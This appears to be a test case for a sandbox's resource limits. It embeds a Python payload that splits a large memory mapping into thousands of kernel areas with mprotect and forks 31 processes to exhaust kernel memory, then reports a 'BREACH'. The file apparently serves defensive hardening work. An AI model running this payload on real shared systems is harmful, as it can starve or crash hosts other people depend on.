"""Split address space into as many areas as there are pages, in many processes.

Must not: hold more of the kernel's memory in areas than the submission's.
"""

from attack_kit import every

ANSWERS = every("return None")
LAST = [
    """import ctypes, mmap, os, time
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
size = 350 * 2**20
start = libc.mmap(None, ctypes.c_size_t(size), 0, 0x22, -1, ctypes.c_long(0))
split = 0
for page in range(0, size, 2 * 4096):
    split += libc.mprotect(ctypes.c_void_p(start + page), ctypes.c_size_t(4096), 1) == 0
for child in range(31):
    if os.fork() == 0: time.sleep(60)
time.sleep(2.2)
if split * 31 * 200 > 400 * 2**20: print('BRE' + 'ACH:', split)""",
]
REASON = "memory|longer than"
STOPPED_BY = "address space counts with what its administration can take"
PROCESS_STOPS = False
PROCESS_WHY = "memory and descriptors are the account's: not run"
